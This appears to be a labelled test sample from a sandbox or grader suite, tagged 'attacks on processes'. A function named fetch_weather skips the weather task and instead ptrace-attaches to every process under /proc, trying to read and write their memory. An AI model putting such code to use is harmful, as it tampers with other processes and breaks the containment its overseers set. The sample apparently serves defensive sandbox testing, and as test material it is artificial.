# kind: attacks on processes
# tries: to trace its parents, and to read and write their memory
# exercise: 03_gather_weather
# outcome: FAIL wrong-result
# needs: full
import ctypes
import glob
import os


class Vector(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]


async def fetch_weather(cities, base_url):
    libc = ctypes.CDLL(None, use_errno=True)
    for folder in glob.glob("/proc/[0-9]*"):
        pid = int(folder[6:])
        if pid == os.getpid():
            continue
        print(pid, "attach", libc.ptrace(16, pid, None, None), os.strerror(ctypes.get_errno()))
        buffer = ctypes.create_string_buffer(4096)
        local, remote = Vector(ctypes.addressof(buffer), 4096), Vector(id(None), 4096)
        print(pid, "read", libc.process_vm_readv(pid, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0))
        print(pid, "write", libc.process_vm_writev(pid, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0))
    return []
